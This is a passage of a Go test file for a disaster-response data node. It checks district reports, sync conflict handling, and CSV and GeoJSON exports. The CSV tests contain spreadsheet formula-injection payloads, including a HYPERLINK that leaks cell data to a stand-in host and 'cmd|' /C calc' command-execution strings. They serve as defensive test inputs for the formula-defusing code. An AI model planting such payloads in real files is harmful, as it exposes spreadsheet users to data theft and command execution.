package node_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"math/rand/v2"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"lifeline/node"
	"lifeline/node/identity"
	"lifeline/node/nodetest"
	"lifeline/node/store"
	"lifeline/schemas"
	"lifeline/syncproto"
)

// openNode makes and opens a node in a temporary folder.
func openNode(t *testing.T, name string, role syncproto.Role, district string) *node.Node {
	t.Helper()
	return openNodeWith(t, name, role, district, nil)
}

// openNodeWith is openNode with its configuration changed by edit, if any.
func openNodeWith(t *testing.T, name string, role syncproto.Role, district string, edit func(*node.Config)) *node.Node {
	t.Helper()
	return nodetest.Open(t, name, role, district, edit)
}

func mustAdd(t *testing.T, n *node.Node, typ, data string) syncproto.RecordID {
	t.Helper()
	id, err := n.Add(context.Background(), typ, []byte(data), "vol-193")
	if err != nil {
		t.Fatalf("add %s: %v\n%s", typ, err, data)
	}
	return id
}

func mustUpdate(t *testing.T, n *node.Node, id syncproto.RecordID, data string) {
	t.Helper()
	if _, err := n.Update(context.Background(), id, []byte(data), "vol-193"); err != nil {
		t.Fatalf("update %s: %v", id, err)
	}
}

// The records of a test, as the test itself keeps track of them.
type (
	building struct {
		id               syncproto.RecordID
		district         string
		level, occupants int
		displaced        bool
		deleted          bool
	}
	shelter struct {
		district            string
		status              string // "" when not given
		occupancy, capacity int
	}
	family struct {
		district string
		members  int
		departed bool
	}
	missing struct {
		district, status string
	}
)

// The report's figures are what the test computes from the records it
// added, updated and deleted, district by district.
func TestReportCountsWhatEachDistrictHolds(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
	rng := rand.New(rand.NewPCG(7, 27))
	district := func() string { return schemas.Districts[rng.IntN(len(schemas.Districts))] }

	var buildings []*building
	for i := range 120 {
		b := &building{district: district(), level: rng.IntN(5), occupants: rng.IntN(12), displaced: rng.IntN(3) == 0}
		displaced := ""
		if b.displaced || rng.IntN(2) == 0 {
			displaced = fmt.Sprintf(`,"displaced":%t`, b.displaced)
		}
		b.id = mustAdd(t, n, "damage-assessment", fmt.Sprintf(`{"district":%q,"village":"Village %d","lat":17.2,"lon":-88.7,
			"structure_type":"timber frame","damage_level":%d,"household_size":%d%s,
			"reported_by":"vol-1","reported_at":"2026-11-27T10:00:00Z"}`, b.district, i, b.level, b.occupants, displaced))
		buildings = append(buildings, b)
	}
	// Second visits change some assessments; some were entered twice and
	// deleted; one deletion was a mistake.
	for _, b := range buildings[:15] {
		b.level, b.displaced = 4, true
		mustUpdate(t, n, b.id, `{"damage_level":4,"displaced":true}`)
	}
	for _, b := range buildings[10:20] {
		b.deleted = true
		if err := n.Delete(ctx, b.id, "vol-193"); err != nil {
			t.Fatal(err)
		}
	}
	buildings[19].deleted = false
	if err := n.Restore(ctx, buildings[19].id, "vol-193"); err != nil {
		t.Fatal(err)
	}

	var shelters []shelter
	statuses := []string{"", "open", "full", "closed", "damaged"}
	for i := range 14 {
		s := shelter{district: district(), status: statuses[rng.IntN(len(statuses))], occupancy: rng.IntN(300), capacity: 300 + rng.IntN(200)}
		status := ""
		if s.status != "" {
			status = fmt.Sprintf(`,"status":%q`, s.status)
		}
		mustAdd(t, n, "shelter", fmt.Sprintf(`{"shelter_name":"Shelter %d","district":%q,"occupancy":%d,"capacity":%d%s}`,
			i, s.district, s.occupancy, s.capacity, status))
		shelters = append(shelters, s)
	}
	var families []family
	for i := range 40 {
		f := family{district: district(), members: 1 + rng.IntN(9), departed: rng.IntN(4) == 0}
		departed := ""
		if f.departed {
			departed = `,"departed_at":"2026-11-29T08:00:00Z"`
		}
		mustAdd(t, n, "shelter-registration", fmt.Sprintf(`{"shelter_name":"Shelter %d","district":%q,"family_head_name":"Family %d",
			"members":%d,"arrived_at":"2026-11-27T18:00:00Z","registered_by":"vol-2"%s}`, i%14, f.district, i, f.members, departed))
		families = append(families, f)
	}
	var people []missing
	cases := []string{"missing", "missing", "found-safe", "found-injured", "found-deceased", "reunited"}
	for i := range 30 {
		m := missing{district: district(), status: cases[rng.IntN(len(cases))]}
		mustAdd(t, n, "missing-person", fmt.Sprintf(`{"full_name":"Person %d","district":%q,"last_seen_place":"the market",
			"status":%q,"reporter_name":"Ana Cho","reported_at":"2026-11-27T09:00:00Z"}`, i, m.district, m.status))
		people = append(people, m)
	}
	roads := map[string]int{}
	for i := range 9 {
		d := district()
		roads[d]++
		mustAdd(t, n, "road-segment", fmt.Sprintf(`{"district":%q,"road":"Hummingbird Highway","segment":"mile %d",
			"passable":"closed","reported_by":"vol-3","reported_at":"2026-11-27T07:00:00Z"}`, d, i))
	}

	rep, err := n.Report(ctx)
	if err != nil {
		t.Fatal(err)
	}
	if len(rep.Districts) != len(schemas.Districts) {
		t.Fatalf("%d rows, want the six districts (every record names one)", len(rep.Districts))
	}
	var total node.DistrictReport
	total.Records = map[string]int{}
	for i, got := range rep.Districts {
		d := schemas.Districts[i]
		want := node.DistrictReport{District: d, Records: map[string]int{}}
		for _, b := range buildings {
			if b.district != d || b.deleted {
				continue
			}
			want.Records["damage-assessment"]++
			want.Damage[b.level]++
			if b.displaced {
				want.Displaced += b.occupants
			}
		}
		for _, s := range shelters {
			if s.district != d {
				continue
			}
			want.Records["shelter"]++
			want.Shelters++
			want.Occupancy += s.occupancy
			want.Capacity += s.capacity
			if s.status == "open" || s.status == "full" {
				want.SheltersOpen++
			}
		}
		for _, f := range families {
			if f.district != d {
				continue
			}
			want.Records["shelter-registration"]++
			if !f.departed {
				want.Families++
				want.People += f.members
			}
		}
		for _, m := range people {
			if m.district != d {
				continue
			}
			want.Records["missing-person"]++
			if m.status == "missing" {
				want.Missing++
			}
		}
		if roads[d] > 0 {
			want.Records["road-segment"] = roads[d]
		}
		if !reflect.DeepEqual(got, want) {
			t.Errorf("%s:\n got %+v\nwant %+v", d, got, want)
		}
		for typ, c := range want.Records {
			total.Records[typ] += c
		}
		total.Displaced += want.Displaced
		total.Missing += want.Missing
		total.People += want.People
	}
	if !reflect.DeepEqual(rep.Total.Records, total.Records) || rep.Total.Displaced != total.Displaced ||
		rep.Total.Missing != total.Missing || rep.Total.People != total.People {
		t.Errorf("total %+v, want the sum of the districts", rep.Total)
	}
	if got := rep.Total.Severe(); got != rep.Total.Damage[3]+rep.Total.Damage[4] || got < 15 {
		t.Errorf("severe %d of %v", got, rep.Total.Damage)
	}
}

// cayoPeer opens a field node of Cayo, its clock skew ahead of n's
// (behind, if negative), and enrolls it and n with one CA, so that changes
// carried between them merge.
func cayoPeer(t *testing.T, n *node.Node, skew time.Duration) *node.Node {
	t.Helper()
	ca, err := identity.NewCA("Test CA")
	if err != nil {
		t.Fatal(err)
	}
	other := openNodeWith(t, "cayo-02", syncproto.RoleField, "Cayo", func(cfg *node.Config) { cfg.ClockOffset = skew })
	for _, m := range []*node.Node{n, other} {
		if err := m.EnrollWith(context.Background(), ca); err != nil {
			t.Fatal(err)
		}
	}
	return other
}

// carry takes what from holds to to, by bundle.
func carry(t *testing.T, from, to *node.Node) {
	t.Helper()
	ctx := context.Background()
	path := filepath.Join(t.TempDir(), "bundle")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := from.ExportBundle(ctx, f, nil); err != nil {
		t.Fatal(err)
	}
	f.Close()
	if _, err := to.ImportBundle(ctx, path); err != nil {
		t.Fatal(err)
	}
}

// conflict makes a damage assessment in Cayo that n and another node
// changed without seeing each other's change; n ends up holding both
// versions of damage_level and of notes.
func conflict(t *testing.T, n *node.Node) syncproto.RecordID {
	t.Helper()
	return conflictSkewed(t, n, 0)
}

// conflictSkewed is conflict with the other node's clock set skew ahead of
// n's (behind, if negative). n sets damage_level 2 and the other node 4.
func conflictSkewed(t *testing.T, n *node.Node, skew time.Duration) syncproto.RecordID {
	t.Helper()
	ctx := context.Background()
	other := cayoPeer(t, n, skew)
	id := mustAdd(t, n, "damage-assessment", `{"district":"Cayo","village":"Succotz","lat":17.1,"lon":-89.1,
		"structure_type":"thatch","damage_level":1,"household_size":4,"reported_by":"vol-1","reported_at":"2026-11-27T10:00:00Z"}`)
	carry(t, n, other)
	mustUpdate(t, n, id, `{"damage_level":2,"notes":"seen from the road"}`)
	mustUpdate(t, other, id, `{"damage_level":4,"notes":"walked through"}`)
	carry(t, other, n)
	v, err := n.Record(ctx, id)
	if err != nil || len(v.Conflicts["damage_level"]) != 2 {
		t.Fatalf("no conflict made: %v %v", v.Conflicts, err)
	}
	return id
}

// A field in conflict counts once, with the value that wins until someone
// decides (the later clock's), and the record is counted as in conflict.
// The clocks are minutes apart, so that which version wins depends on the
// rule alone, not on how fast the test runs.
func TestReportCountsTheWinningValueOfAConflict(t *testing.T) {
	for _, tc := range []struct {
		name  string
		skew  time.Duration // the other laptop's clock, against HQ's
		level int64         // HQ's version is 2, the laptop's 4
	}{
		{"the laptop's clock is ahead", 5 * time.Minute, 4},
		{"the laptop's clock is behind", -5 * time.Minute, 2},
	} {
		t.Run(tc.name, func(t *testing.T) {
			ctx := context.Background()
			n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
			id := conflictSkewed(t, n, tc.skew)
			v, err := n.Record(ctx, id)
			if err != nil {
				t.Fatal(err)
			}
			if got := v.Fields["damage_level"]; got != tc.level {
				t.Fatalf("damage_level shows %v, want %d, the version of the later clock", got, tc.level)
			}
			rep, err := n.Report(ctx)
			if err != nil {
				t.Fatal(err)
			}
			cayo := rep.Districts[slices.Index(schemas.Districts, "Cayo")]
			var want [node.DamageLevels]int
			want[tc.level] = 1
			if cayo.Damage != want || cayo.Conflicts != 1 || cayo.Records["damage-assessment"] != 1 {
				t.Fatalf("Cayo %+v, want one building at level %d, in conflict", cayo, tc.level)
			}
		})
	}
}

const (
	exportedAssessment = `{"district":"Cayo","village":"=HYPERLINK(\"http://x.example\",\"click\")","address":"@SUM(A1)",
		"lat":17.25,"lon":-88.759,"structure_type":"mixed timber/concrete","structure_use":"residential",
		"damage_level":3,"household_size":6,"displaced":true,"needs":["hygiene kit","water"],
		"head_of_household":"Marta Chun","phone":"+501 622 1234","notes":"-roof gone","photos":["p1.jpg","p2.jpg"],
		"reported_by":"vol-193","reported_at":"2026-11-27T04:00:00-06:00"}`
	plainAssessment = `{"district":"Toledo","village":"Punta Gorda","lat":16.1,"lon":-88.8,"structure_type":"thatch",
		"damage_level":0,"household_size":2,"reported_by":"vol-7","reported_at":"2026-11-27T11:00:00Z"}`
)

func exportCSV(t *testing.T, n *node.Node, typ string, opts node.ExportOptions) (string, [][]string) {
	t.Helper()
	var buf bytes.Buffer
	count, err := n.ExportCSV(context.Background(), typ, &buf, opts)
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, buf.String())
	}
	if count != len(rows)-1 {
		t.Fatalf("ExportCSV says %d records, wrote %d rows after the header", count, len(rows)-1)
	}
	return buf.String(), rows
}

// column reads a row by header name.
func column(header, row []string, name string) string {
	i := slices.Index(header, name)
	if i < 0 {
		return "<no column " + name + ">"
	}
	return row[i]
}

// A CSV export reads back as the records: values as text, text that a
// spreadsheet would run as a formula defused, personal fields only when
// asked for, deleted records left out.
func TestExportCSVReadsBack(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
	id := mustAdd(t, n, "damage-assessment", exportedAssessment)
	mustAdd(t, n, "damage-assessment", plainAssessment)
	gone := mustAdd(t, n, "damage-assessment", plainAssessment)
	if err := n.Delete(ctx, gone, "vol-7"); err != nil {
		t.Fatal(err)
	}

	out, rows := exportCSV(t, n, "damage-assessment", node.ExportOptions{})
	wantHeader := []string{"id", "case", "sync_status", "district", "village", "address", "lat", "lon", "structure_type",
		"structure_use", "damage_level", "building_tag", "tag_reason", "household_size", "injured", "dead", "displaced", "needs", "notes", "photos",
		"reported_by", "reported_at", "conflict"}
	if !slices.Equal(rows[0], wantHeader) {
		t.Fatalf("header %q\nwant   %q", rows[0], wantHeader)
	}
	if len(rows) != 3 {
		t.Fatalf("%d rows after the header, want the 2 records not deleted", len(rows)-1)
	}
	if strings.Contains(out, "Marta Chun") || strings.Contains(out, "622 1234") || strings.Contains(out, gone.String()) {
		t.Fatalf("personal data or a deleted record in the export:\n%s", out)
	}
	h, r := rows[0], rows[1]
	want := map[string]string{
		"id": id.String(), "case": "", "sync_status": node.StatusSaved,
		"district": "Cayo", "village": `'=HYPERLINK("http://x.example","click")`, "address": "'@SUM(A1)",
		"lat": "17.25", "lon": "-88.759", "structure_type": "mixed timber/concrete", "structure_use": "residential",
		"damage_level": "3", "household_size": "6", "injured": "", "displaced": "true",
		"needs": "water;hygiene kit", "notes": "'-roof gone", "photos": "p1.jpg;p2.jpg",
		"reported_at": "2026-11-27T10:00:00Z", "conflict": "",
	}
	for name, w := range want {
		if got := column(h, r, name); got != w {
			t.Errorf("%s = %q, want %q", name, got, w)
		}
	}

	_, rows = exportCSV(t, n, "damage-assessment", node.ExportOptions{Personal: true})
	h, r = rows[0], rows[1]
	if got := column(h, r, "head_of_household"); got != "Marta Chun" {
		t.Errorf("with personal data, head_of_household = %q", got)
	}
	if got := column(h, r, "phone"); got != "'+501 622 1234" {
		t.Errorf("with personal data, phone = %q", got)
	}
	if i, j := slices.Index(h, "head_of_household"), slices.Index(h, "notes"); i > j {
		t.Errorf("personal fields out of the kit's order: %q", h)
	}

	// A point is "lat,lon"; a type's own status field is not the record's
	// sync status.
	mustAdd(t, n, "shelter", `{"shelter_name":"Belmopan Comprehensive School","district":"Cayo",
		"location":{"lat":17.251,"lon":-88.7668},"status":"open","capacity":400}`)
	_, rows = exportCSV(t, n, "shelter", node.ExportOptions{})
	h, r = rows[0], rows[1]
	if column(h, r, "location") != "17.251,-88.7668" || column(h, r, "status") != "open" || column(h, r, "sync_status") != node.StatusSaved {
		t.Errorf("shelter row %q of %q", r, h)
	}
}

// The conflict column names the fields in conflict.
func TestExportCSVNamesFieldsInConflict(t *testing.T) {
	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
	conflict(t, n)
	_, rows := exportCSV(t, n, "damage-assessment", node.ExportOptions{})
	if got := column(rows[0], rows[1], "conflict"); got != "damage_level;notes" {
		t.Fatalf("conflict column %q, want the two fields in the kit's order", got)
	}
}

// The attacks of a CSV export: text a spreadsheet would run as a formula,
// in values, in field names a node chose (the conflict column) and at the
// start of items of a list.
var formulas = []string{
	`=HYPERLINK("http://x.example/?leak="&A1,"click")`,
	"+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
	"-",
	// Read at ";", as a spreadsheet in a locale whose list separator is
	// ";" reads a cell that CSV does not quote, the second cell is a
	// formula.
	"Succotz;@SUM(1+1)*cmd|' /C calc'!A0",
}

// startsFormula reports whether a spreadsheet would run a cell: it starts
// like a formula and is not a negative number.
func startsFormula(c string) bool {
	return c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !negative.MatchString(c)
}

var negative = regexp.MustCompile(`^-[0-9]+(\.[0-9]+)?$`)

func TestDefuse(t *testing.T) {
	for in, want := range map[string]string{
		"-89.1": "-89.1", "-5": "-5", "17.25": "17.25", "": "", "Succotz": "Succotz", "'=x": "'=x",
		"-": "'-", "-1e5": "'-1e5", "-17.2,-88.7": "'-17.2,-88.7", "-.5": "'-.5", "-5.": "'-5.", "+5": "'+5",
		"=1+1": "'=1+1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1", "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
		"Succotz;=1+1": "Succotz;'=1+1", "=1;+2;-3;x": "'=1;'+2;-3;x", "-5;-6": "'-5;-6", "a;;@b": "a;;'@b", "a;'=b": "a;'=b",
	} {
		if got := node.Defuse(in); got != want {
			t.Errorf("defuse(%q) = %q, want %q", in, got, want)
		}
	}
}

// No cell of an export starts a formula, whatever the records hold or the
// node that wrote them named its fields; negative numbers stay numbers.
func TestExportCSVDefusesEveryCell(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
	other := cayoPeer(t, n, 0)
	text := func(s string) []byte {
		b, err := syncproto.Marshal(s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	quote := func(s string) string {
		b, _ := json.Marshal(s)
		return string(b)
	}
	id := mustAdd(t, n, "damage-assessment", fmt.Sprintf(`{"district":"Cayo","village":%s,"address":%s,"lat":17.1,"lon":-89.1,
		"structure_type":"thatch","damage_level":1,"household_size":4,"head_of_household":%s,"phone":%s,"notes":%s,
		"building_tag":"restricted","tag_reason":%s,"reported_by":%s,"reported_at":"2026-11-27T10:00:00Z"}`,
		quote(formulas[0]), quote(formulas[1]), quote(formulas[2]), quote(formulas[3]), quote(formulas[4]), quote(formulas[7]), quote(formulas[5])))
	carry(t, n, other)
	// Each node sets fields the kit does not declare, named as an attacker
	// would: the other's are kept aside here (the kit declares no such
	// field), and this node's own, written past its kit, are in no column.
	for i, m := range []*node.Node{n, other} {
		ty, _ := n.Type("damage-assessment")
		e := store.Edit{Record: id, Lane: uint8(ty.Priority), Kit: ty.Kit, Type: ty.Name, Version: ty.Version, Author: "vol-1"}
		for _, f := range formulas[:4] {
			e.Fields = append(e.Fields, syncproto.FieldChange{Name: f, Value: text(fmt.Sprint(f, i))})
		}
		slices.SortFunc(e.Fields, func(a, b syncproto.FieldChange) int { return strings.Compare(a.Name, b.Name) })
		if err := node.WriteEdit(m, ctx, e); err != nil {
			t.Fatal(err)
		}
	}
	carry(t, other, n)
	if qs, _ := n.Quarantine(ctx, 0); len(qs) != 1 || !strings.Contains(qs[0].Reason, "does not declare") {
		t.Fatalf("the other node's fields the kit does not declare: kept aside %+v", qs)
	}
	// Both nodes give notes a formula: the conflict column names it.
	mustUpdate(t, n, id, fmt.Sprintf(`{"notes":%s}`, quote(formulas[4]+" here")))
	mustUpdate(t, other, id, fmt.Sprintf(`{"notes":%s}`, quote(formulas[4]+" there")))
	carry(t, other, n)

	for _, opts := range []node.ExportOptions{{}, {Personal: true}} {
		out, rows := exportCSV(t, n, "damage-assessment", opts)
		for i, row := range rows {
			for j, c := range row {
				if startsFormula(c) {
					t.Errorf("row %d, column %q: %q starts a formula", i, rows[0][j], c)
				}
			}
		}
		// Read with ";" between cells, as a spreadsheet in some locales
		// reads it, no cell a list or the conflict column makes starts a
		// formula either.
		for _, line := range strings.Split(out, "\n") {
			for _, c := range strings.Split(line, ";")[1:] {
				if startsFormula(strings.TrimPrefix(c, `"`)) {
					t.Errorf("read at \";\": %q starts a formula", c)
				}
			}
		}
		h, r := rows[0], rows[1]
		if got := column(h, r, "village"); got != "'"+formulas[0] {
			t.Errorf("village = %q", got)
		}
		if got := column(h, r, "lon"); got != "-89.1" {
			t.Errorf("lon = %q, want the negative number as it is", got)
		}
		if got := column(h, r, "conflict"); got != "notes" {
			t.Fatalf("conflict column %q, want notes", got)
		}
		if got := column(h, r, "notes"); !strings.HasPrefix(got, "'"+formulas[4]) {
			t.Errorf("notes = %q", got)
		}
		if got := column(h, r, "address"); got != "'"+formulas[1] {
			t.Errorf("address = %q", got)
		}
		if got := column(h, r, "tag_reason"); got != "Succotz;'"+formulas[3] {
			t.Errorf("tag_reason = %q", got)
		}
	}
}

type featureCollection struct {
	Type     string `json:"type"`
	Features []struct {
		Type     string `json:"type"`
		Geometry struct {
			Type        string    `json:"type"`
			Coordinates []float64 `json:"coordinates"`
		} `json:"geometry"`
		Properties map[string]any `json:"properties"`
	} `json:"features"`
}

func exportGeoJSON(t *testing.T, n *node.Node, typ string, opts node.ExportOptions) featureCollection {
	t.Helper()
	var buf bytes.Buffer
	count, err := n.ExportGeoJSON(context.Background(), typ, &buf, opts)
	if err != nil {
		t.Fatal(err)
	}
	var fc featureCollection
	if err := json.Unmarshal(buf.Bytes(), &fc); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, buf.String())
	}
	if fc.Type != "FeatureCollection" || count != len(fc.Features) {
		t.Fatalf("%q with %d features, ExportGeoJSON says %d", fc.Type, len(fc.Features), count)
	}
	return fc
}

// A GeoJSON export places each record with a location at [lon, lat], from
// a geo field or from lat and lon; personal fields only when asked for.
func TestExportGeoJSONReadsBack(t *testing.T) {
	ctx := context.Background()
	n := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
	id := mustAdd(t, n, "damage-assessment", exportedAssessment)
	gone := mustAdd(t, n, "damage-assessment", plainAssessment)
	if err := n.Delete(ctx, gone, "vol-7"); err != nil {
		t.Fatal(err)
	}
	fc := exportGeoJSON(t, n, "damage-assessment", node.ExportOptions{})
	if len(fc.Features) != 1 {
		t.Fatalf("%d features, want 1 (the other is deleted)", len(fc.Features))
	}
	f := fc.Features[0]
	if f.Type != "Feature" || f.Geometry.Type != "Point" || !slices.Equal(f.Geometry.Coordinates, []float64{-88.759, 17.25}) {
		t.Fatalf("feature %+v, want a point at [-88.759, 17.25]", f)
	}
	p := f.Properties
	if p["id"] != id.String() || p["sync_status"] != node.StatusSaved || p["damage_level"] != 3.0 || p["displaced"] != true ||
		!reflect.DeepEqual(p["needs"], []any{"water", "hygiene kit"}) || !reflect.DeepEqual(p["conflict"], []any{}) {
		t.Fatalf("properties %v", p)
	}
	if _, ok := p["head_of_household"]; ok {
		t.Fatalf("a personal field exported by default: %v", p)
	}
	fc = exportGeoJSON(t, n, "damage-assessment", node.ExportOptions{Personal: true})
	if got := fc.Features[0].Properties["head_of_household"]; got != "Marta Chun" {
		t.Fatalf("with personal data, head_of_household = %v", got)
	}

	mustAdd(t, n, "shelter", `{"shelter_name":"Belmopan Comprehensive School","district":"Cayo","location":{"lat":17.251,"lon":-88.7668}}`)
	mustAdd(t, n, "shelter", `{"shelter_name":"Hopkins Church","district":"Stann Creek"}`)
	fc = exportGeoJSON(t, n, "shelter", node.ExportOptions{})
	if len(fc.Features) != 1 || !slices.Equal(fc.Features[0].Geometry.Coordinates, []float64{-88.7668, 17.251}) {
		t.Fatalf("shelters %+v, want the one with a location at [-88.7668, 17.251]", fc.Features)
	}

	_, err := n.ExportGeoJSON(ctx, "shelter-registration", &bytes.Buffer{}, node.ExportOptions{})
	if !errors.Is(err, node.ErrNoLocation) {
		t.Fatalf("a type without a location: %v", err)
	}
	for typ, want := range map[string]bool{"damage-assessment": true, "shelter": true, "missing-person": true, "shelter-registration": false} {
		ty, err := n.Type(typ)
		if err != nil {
			t.Fatal(err)
		}
		if got := node.HasLocation(ty, node.ExportOptions{}); got != want {
			t.Errorf("HasLocation(%s) = %v", typ, got)
		}
	}
	if _, err := n.ExportGeoJSON(ctx, "no-such-type", &bytes.Buffer{}, node.ExportOptions{}); !errors.Is(err, node.ErrUnknownType) {
		t.Fatalf("an unknown type: %v", err)
	}
}

// benchHQ is a headquarters node alone, in a folder of its own, closed
// when the benchmark ends.
func benchHQ(b *testing.B) *node.Node {
	ctx := context.Background()
	cfg := node.DefaultConfig()
	cfg.DataDir = filepath.Join(b.TempDir(), "hq")
	if err := node.Init(ctx, cfg, node.Identity{Name: "hq", Role: syncproto.RoleHQ, District: "Cayo"}); err != nil {
		b.Fatal(err)
	}
	n, err := node.Open(ctx, cfg)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { n.Close() })
	return n
}

// A report over 50,000 assessments reads the totals the store keeps, not
// the records.
func BenchmarkReport(b *testing.B) {
	ctx := context.Background()
	n := benchHQ(b)
	var lines strings.Builder
	for i := range 50000 {
		fmt.Fprintf(&lines, `{"district":%q,"village":"Village %d","lat":17.1,"lon":-89.1,"structure_type":"thatch",`+
			`"damage_level":%d,"household_size":4,"displaced":true,"reported_by":"vol-1","reported_at":"2026-11-20T10:00:00Z"}`+"\n",
			schemas.Districts[i%6], i, i%5)
	}
	if _, err := n.Import(ctx, "damage-assessment", strings.NewReader(lines.String()), "vol-1", nil); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		rep, err := n.Report(ctx)
		if err != nil || rep.Total.Records["damage-assessment"] != 50000 {
			b.Fatalf("%v %v", rep.Total, err)
		}
	}
}

// walkReport is the report as it was computed before the store kept its
// totals, by reading every record: the independent definition the kept
// totals are checked against.
func walkReport(t *testing.T, n *node.Node) node.Report {
	t.Helper()
	rows := map[string]*node.DistrictReport{}
	row := func(district string) *node.DistrictReport {
		r := rows[district]
		if r == nil {
			r = &node.DistrictReport{District: district, Records: map[string]int{}}
			rows[district] = r
		}
		return r
	}
	for _, d := range schemas.Districts {
		row(d)
	}
	integer := func(v any) (int, bool) {
		switch x := v.(type) {
		case int64:
			return int(x), true
		case uint64:
			return int(x), true
		}
		return 0, false
	}
	text := func(v any) string { s, _ := v.(string); return s }
	for v, err := range n.Records(context.Background(), node.Query{}) {
		if err != nil {
			t.Fatal(err)
		}
		district, _ := schemas.District(text(v.Fields["district"]))
		r := row(district)
		r.Records[v.Type]++
		if len(v.Conflicts) > 0 {
			r.Conflicts++
		}
		f := v.Fields
		switch v.Type {
		case "damage-assessment":
			if level, ok := integer(f["damage_level"]); ok && level >= 0 && level < node.DamageLevels {
				r.Damage[level]++
			}
			if f["displaced"] == true {
				size, _ := integer(f["household_size"])
				r.Displaced += size
			}
		case "shelter":
			r.Shelters++
			if s := text(f["status"]); s == "open" || s == "full" {
				r.SheltersOpen++
			}
			occupancy, _ := integer(f["occupancy"])
			capacity, _ := integer(f["capacity"])
			r.Occupancy += occupancy
			r.Capacity += capacity
		case "shelter-registration":
			if text(f["departed_at"]) == "" {
				members, _ := integer(f["members"])
				r.Families++
				r.People += members
			}
		case "missing-person":
			if text(f["status"]) == "missing" {
				r.Missing++
			}
		}
	}
	var rep node.Report
	rep.Total.Records = map[string]int{}
	for _, d := range append(slices.Clone(schemas.Districts), "") {
		r := rows[d]
		if r == nil {
			continue
		}
		rep.Districts = append(rep.Districts, *r)
		for typ, c := range r.Records {
			rep.Total.Records[typ] += c
		}
		rep.Total.Conflicts += r.Conflicts
		for i, c := range r.Damage {
			rep.Total.Damage[i] += c
		}
		rep.Total.Displaced += r.Displaced
		rep.Total.Shelters += r.Shelters
		rep.Total.SheltersOpen += r.SheltersOpen
		rep.Total.Occupancy += r.Occupancy
		rep.Total.Capacity += r.Capacity
		rep.Total.Families += r.Families
		rep.Total.People += r.People
		rep.Total.Missing += r.Missing
	}
	return rep
}

func checkReport(t *testing.T, n *node.Node, when string) {
	t.Helper()
	got, err := n.Report(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	want := walkReport(t, n)
	got.At = ""
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("%s: report\n got %+v\nwant %+v", when, got, want)
	}
}

// Random histories of records added, edited (district, damage level,
// status, departures changed), deleted and restored on headquarters and a
// Cayo laptop whose clock runs apart, carried between them now and then so
// that their edits conflict: after every step, the report headquarters
// reads from the totals the store keeps is the report a walk over every
// record gives.
func TestReportKeptEqualsReportWalked(t *testing.T) {
	ctx := context.Background()
	conflicts := 0
	for seed := range uint64(3) {
		t.Run(fmt.Sprint(seed), func(t *testing.T) {
			rng := rand.New(rand.NewPCG(seed, 91))
			hq := openNode(t, "hq-belmopan", syncproto.RoleHQ, "Cayo")
			laptop := cayoPeer(t, hq, time.Duration(rng.IntN(600)-300)*time.Second)
			nodes := []*node.Node{hq, laptop}
			district := func() string {
				if rng.IntN(3) == 0 {
					return "Cayo"
				}
				return schemas.Districts[rng.IntN(len(schemas.Districts))]
			}
			add := map[string]func() string{
				"damage-assessment": func() string {
					return fmt.Sprintf(`{"district":%q,"village":"V","lat":17.1,"lon":-89.1,"structure_type":"thatch","damage_level":%d,
						"household_size":%d,"displaced":%t,"reported_by":"vol-1","reported_at":"2026-11-27T10:00:00Z"}`,
						district(), rng.IntN(5), rng.IntN(9), rng.IntN(2) == 0)
				},
				"shelter": func() string {
					return fmt.Sprintf(`{"shelter_name":"S","district":%q,"occupancy":%d,"capacity":%d,"status":%q}`,
						district(), rng.IntN(300), 300+rng.IntN(100), []string{"open", "full", "closed"}[rng.IntN(3)])
				},
				"shelter-registration": func() string {
					return fmt.Sprintf(`{"shelter_name":"S","district":%q,"family_head_name":"F","members":%d,
						"arrived_at":"2026-11-27T18:00:00Z","registered_by":"vol-2"}`, district(), 1+rng.IntN(8))
				},
				"missing-person": func() string {
					// Of the laptop's district: a laptop moves a missing
					// person to another district only from within hers.
					return `{"full_name":"P","district":"Cayo","last_seen_place":"the market","status":"missing",
						"reporter_name":"Ana Cho","reported_at":"2026-11-27T09:00:00Z"}`
				},
			}
			edits := map[string][]func() string{
				"damage-assessment": {
					func() string { return fmt.Sprintf(`{"damage_level":%d}`, rng.IntN(5)) },
					func() string { return fmt.Sprintf(`{"district":%q}`, district()) },
					func() string {
						return fmt.Sprintf(`{"displaced":%t,"household_size":%d}`, rng.IntN(2) == 0, rng.IntN(9))
					},
				},
				"shelter": {
					func() string {
						return fmt.Sprintf(`{"status":%q}`, []string{"open", "full", "closed", "damaged"}[rng.IntN(4)])
					},
					func() string { return fmt.Sprintf(`{"occupancy":%d}`, rng.IntN(300)) },
				},
				"shelter-registration": {
					func() string { return `{"departed_at":"2026-11-29T08:00:00Z"}` },
					func() string { return fmt.Sprintf(`{"members":%d}`, 1+rng.IntN(8)) },
				},
				"missing-person": {
					func() string {
						return fmt.Sprintf(`{"status":%q}`, []string{"missing", "found-safe", "reunited"}[rng.IntN(3)])
					},
					func() string { return fmt.Sprintf(`{"district":%q}`, district()) },
				},
			}
